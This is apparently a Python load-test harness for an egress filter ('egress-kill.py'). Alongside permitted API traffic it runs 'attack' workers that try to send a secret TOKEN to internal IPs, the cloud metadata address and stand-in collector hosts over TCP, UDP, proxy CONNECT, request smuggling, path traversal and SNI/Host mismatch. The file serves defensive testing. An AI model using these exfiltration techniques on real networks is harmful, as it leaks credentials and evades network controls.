"""What goes on in the runs that egress-kill.py kills: work that is granted, and every way past it.

    python3 load.py MARKER SECONDS

Says "up" once everything is under way, and how much was tried again and again; "done" at the end.
"""
import mmap, os, signal, socket, ssl, subprocess, sys, time

TOKEN = os.environ["TOKEN"]
BEARER = f"Authorization: Bearer {TOKEN}\r\n"
NUMBERS = ["127.0.0.2", "10.9.8.7", "192.168.7.7", "169.254.169.254", "93.184.216.34", "[::1]",
           "[2606:2800:220:1::1]", "[::ffff:10.9.8.7]"]
NAMES = ["other.example.com", "collector.example.com", "inside.example.com", "x.api.example.com",
         "api.example.com.", "localhost", "api.example.org"]
PORTS = [22, 53, 80, 443, 3128, 8443, 9000, 9418]
counts = memoryview(mmap.mmap(-1, 4096)).cast("q")


def dial(host, port, patience=0.5):
    return socket.create_connection((host.strip("[]"), port), patience)


def tls(host, port, name=None, peer=None):
    context = ssl.create_default_context()
    if name:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(peer or dial(host, port, 5), server_hostname=name or host)


def hear(peer):
    """One answer with a length, or what there is."""
    heard = b""
    while b"\r\n\r\n" not in heard:
        piece = peer.recv(1 << 16)
        if not piece:
            raise ConnectionError("no answer")
        heard += piece
    head, _, body = heard.partition(b"\r\n\r\n")
    length = 0
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            length = int(line[15:])
    left = length - len(body)
    while left > 0:
        piece = peer.recv(1 << 18)
        if not piece:
            break
        left -= len(piece)
        if length < 4096:
            heard += piece
    if b"CANARY" in heard:
        print("LEAK", heard[:200], flush=True)
    return heard


def request(path, host="api.example.com", lines="", method="GET", body=""):
    length = f"Content-Length: {len(body)}\r\n" if body else ""
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{lines}{length}\r\n{body}".encode()


# Granted

def keep():
    peer = tls("api.example.com", 443)
    while True:
        peer.sendall(request("/ok/kept", lines=BEARER))
        hear(peer)
        yield


def streams():
    urls = [f"https://api.example.com/ok/{n}" for n in range(60)]
    while True:
        subprocess.run(["curl", "-s", "--http2", "-Z", "-H", BEARER.strip(), *urls],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        yield


def download():
    peer = tls("api.example.com", 443)
    while True:
        peer.sendall(request("/ok/large"))
        hear(peer)
        yield


def upload():
    peer = tls("api.example.com", 443)
    while True:
        peer.sendall(request("/sink/stream", lines="Transfer-Encoding: chunked\r\n", method="POST"))
        for _ in range(200):
            peer.sendall(b"1000\r\n" + b"u" * 4096 + b"\r\n")
            time.sleep(0.002)
        peer.sendall(b"0\r\n\r\n")
        hear(peer)
        yield


def fresh():
    while True:
        peer = dial("api.example.com", 80)
        peer.sendall(request("/ok/plain"))
        hear(peer)
        peer = tls("passed.example.com", 8443)
        peer.sendall(request("/anything", "passed.example.com", BEARER + f"X-Note: {TOKEN}\r\n"))
        hear(peer)
        peer = dial("127.0.0.1", 3128)
        peer.sendall(request("http://api.example.com/ok/absolute"))
        hear(peer)
        yield


# Not granted

def sockets():
    while True:
        for host in NUMBERS + NAMES:
            for port in PORTS:
                try:
                    peer = dial(host, port)
                    peer.sendall(request("/stolen", host, f"X-Stolen: {TOKEN}\r\n"))
                    peer.settimeout(0.02)
                    hear(peer)
                except OSError:
                    pass
                yield


def datagrams():
    four = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    while True:
        for host in NUMBERS:
            for port in PORTS:
                one = six if host[0] == "[" else four
                try:
                    one.sendto(b"stolen " + TOKEN.encode(), (host.strip("[]"), port))
                except OSError:
                    pass
                yield
        time.sleep(0.005)


def proxied():
    while True:
        for host in NUMBERS + NAMES:
            for port in (443, 80, 8443, 9000):
                for text in (f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n",
                             f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"):
                    try:
                        peer = dial("127.0.0.1", 3128)
                        peer.sendall(text.encode() + b"GET /stolen HTTP/1.1\r\n\r\n")
                        hear(peer)
                    except OSError:
                        pass
                    yield


def requests():
    other = "collector.example.com"
    texts = [
        request("/ok/1", other, BEARER), request("/ok/1", "127.0.0.2"), request("/admin/users"),
        request(f"http://{other}/ok/1"), request("/ok/../admin/users"), request("/ok/%2e%2e/admin"),
        request("/ok/1", lines=f"X-Note: {TOKEN}\r\n"), request(f"/ok/{TOKEN}"),
        request(f"/ok/1?note={TOKEN}"), request("/ok/1", lines=f"Cookie: a={TOKEN}\r\n"),
        request("/sink/1", method="POST", body=f"note={TOKEN}"), request("/ok/1", method="DELETE"),
        request("/ok/1", lines=f"Host: {other}\r\n"),
        request("/ok/1", lines="Upgrade: websocket\r\nConnection: Upgrade\r\n"),
        request("/sink/1", lines="Transfer-Encoding: chunked\r\n", method="POST", body="0\r\n\r\nGET "),
    ]
    while True:
        for text in texts:
            for port in (443, 80):
                try:
                    peer = dial("api.example.com", port)
                    peer = tls("api.example.com", port, peer=peer) if port == 443 else peer
                    peer.sendall(text)
                    hear(peer)
                except OSError:
                    pass
                yield
        for host, port in (("passed.example.com", 8443), ("api.example.com", 443)):
            try:
                # The greeting asks for another name than the connection.
                peer = tls(host, port, other)
                peer.sendall(request("/stolen", other))
                hear(peer)
            except OSError:
                pass
            yield


WORK = [keep, streams, download, upload, fresh]
ATTACKS = [sockets, datagrams, proxied, requests]


def work(index, steps):
    while True:
        try:
            for _ in steps():
                counts[index] += 1
        except OSError:
            # Revoked, perhaps: asked for again all the same.
            time.sleep(0.005)


def main():
    children = []
    for index, steps in enumerate(WORK + ATTACKS):
        child = os.fork()
        if child == 0:
            work(index, steps)
        children.append(child)
    begun = time.monotonic()
    isUp = False
    while time.monotonic() < begun + float(sys.argv[2]) or not isUp:
        time.sleep(0.01)
        if not isUp and (sum(counts[:5]) >= 5 or time.monotonic() > begun + 5):
            isUp, begun = True, time.monotonic()
            print("up", flush=True)
        print("n", sum(counts[:5]), sum(counts[5:9]), flush=True)
    print("done", flush=True)
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


if __name__ == "__main__":
    main()
